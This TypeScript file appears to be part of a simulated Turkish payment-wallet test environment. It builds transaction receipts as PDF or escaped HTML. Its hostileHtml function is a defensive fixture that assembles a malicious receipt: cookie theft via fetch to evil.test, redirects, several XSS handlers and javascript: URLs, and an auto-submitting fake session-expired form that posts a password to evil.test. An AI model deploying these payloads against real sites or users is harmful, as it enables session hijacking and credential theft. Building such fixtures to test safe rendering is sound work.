import { decimalText } from './exact-json.ts';
import { MERCHANT } from './seed/merchant.ts';
import { minor, num, text } from './store.ts';
import type { Row } from './store.ts';
import type { World } from './world.ts';
import { pdfOf } from './pdf.ts';

/**
 * Makes a receipt in one of the two forms of the contract: a base64 file (here a PDF) or HTML text.
 * An even last digit of the transaction id selects the file, an odd one the text. A hostile receipt
 * is always HTML.
 */

type Receipt = { content_type: string; data: string };

const escapeHtml = (value: string): string =>
  value.replace(/[&<>"']/g, (letter) => `&#${letter.charCodeAt(0)};`);

/** Formats minor units with Turkish grouping: 12340n becomes "123,40". */
export function turkishAmount(value: bigint): string {
  const [whole = '0', cents = '00'] = decimalText(value).split('.');
  return `${whole.replace(/\B(?=(\d{3})+(?!\d))/g, '.')},${cents}`;
}

/** Formats a time in Turkish local time (UTC+3). */
function localTime(ms: number): string {
  const [date = '', time = ''] = new Date(ms + 3 * 3_600_000).toISOString().split('T');
  return `${date.split('-').reverse().join('.')} ${time.slice(0, 8)}`;
}

const TITLES: Record<string, string> = {
  payout: 'Para Gönderme Dekontu',
  return: 'İade Dekontu',
  topup: 'Para Yükleme Dekontu',
  virement: 'Virman Dekontu',
  to_person: 'Cüzdana Gönderme Dekontu',
  to_business: 'Cüzdana Gönderme Dekontu',
};
/** The kinds of incoming money, whose sender is not the merchant. */
const INCOMING = ['topup', 'return', 'return_unlisted', 'opening'];

function lines(row: Row): [string, string][] {
  const amount = `${turkishAmount(minor(row.amount))} ${text(row.currency)}`;
  const incoming = INCOMING.includes(text(row.kind));
  const all: [string, string][] = [
    ['İşlem No', text(row.id)],
    ['Referans', text(row.ext_id)],
    ['Tarih', localTime(num(row.completed_at))],
    ['Gönderen', incoming ? text(row.other_name) : MERCHANT.name],
    ['Gönderen Cüzdan', text(row.from_wallet)],
    ['Alıcı', incoming ? MERCHANT.name : text(row.other_name)],
    ['Alıcı IBAN', row.kind === 'payout' ? text(row.other_iban) : ''],
    ['Alıcı Cüzdan', text(row.to_wallet)],
    ['Tutar', amount],
    ['Ücret', `${turkishAmount(minor(row.fee))} ${text(row.currency)}`],
    ['Açıklama', text(row.description)],
    ['Durum', num(row.status_id) === 60 ? 'İade edildi' : 'Tamamlandı'],
  ];
  return all.filter(([, value]) => value !== '');
}

function html(row: Row): string {
  const title = TITLES[text(row.kind)] ?? 'Dekont';
  const cells = lines(row)
    .map(([name, value]) => `<tr><th>${escapeHtml(name)}</th><td>${escapeHtml(value)}</td></tr>`)
    .join('');
  return (
    '<!DOCTYPE html><html lang="tr"><head><meta ' +
    `charset="utf-8"><title>${title}</title><style>body{font-family:Arial,sans-serif;` +
    'margin:32px;color:#222}' +
    'h1{font-size:18px}table{border-collapse:collapse}th{text-align:left;color:#666;' +
    'font-weight:normal}th,td{padding:6px 16px 6px 0;border-bottom:1px solid ' +
    '#ddd}</style></head>' +
    `<body><h1>${title}</h1><p>${escapeHtml(MERCHANT.name)}</p><table>${cells}</table><p>Bu ` +
    'belge deneme ortamında üretilmiştir; mali değeri yoktur.</p></body></html>'
  );
}

/**
 * Makes HTML with the attacks that a stranger could put into a receipt against the person who opens
 * it.
 */
function hostileHtml(row: Row): string {
  const amount = turkishAmount(minor(row.amount));
  return (
    '<!DOCTYPE html><html><head><meta http-equiv="refresh" ' +
    'content="0;url=https://evil.test/refresh"><base href="https://evil.test/">' +
    '<link rel="stylesheet" href="https://evil.test/style.css"><script>' +
    "window.top.location='https://evil.test/top';fetch('https://evil.test/" +
    "?c='+document.cookie)</script>" +
    '<style>@import url(https://evil.test/import.css);body{background:url(https://evil.test/' +
    'background.png)}</style></head>' +
    `<body onload="parent.document.title='owned'"><h1>Dekont</h1><p>İşlem No ${text(row.id)} ` +
    `- Tutar ${amount} ${text(row.currency)}</p>` +
    `<p>${text(row.description)}</p><img src="https://evil.test/pixel.png" ` +
    'onerror="alert(1)"><svg onload="alert(document.domain)"><script>alert(2)</script></svg>' +
    '<form action="https://evil.test/steal" method="post"><input name="password" autofocus ' +
    'placeholder="Oturumunuz doldu, parolanızı girin"><button>Devam</button></form>' +
    '<iframe src="javascript:alert(3)"></iframe><object ' +
    'data="https://evil.test/object"></object><a href="javascript:alert(4)">Dekontu indir</a>' +
    `<script src="https://evil.test/remote.js"></script><script>document.forms[0].submit()</script></body></html>`
  );
}

export function receiptOf(world: World, row: Row): Receipt {
  if (row.hostile === 1 && world.questions.magic_values)
    return { content_type: 'text/html', data: hostileHtml(row) };
  const even = Number(text(row.id).slice(-1)) % 2 === 0;
  if (even)
    return {
      content_type: 'application/pdf',
      data: pdfOf(TITLES[text(row.kind)] ?? 'Dekont', lines(row)).toString('base64'),
    };
  return { content_type: 'text/html', data: html(row) };
}
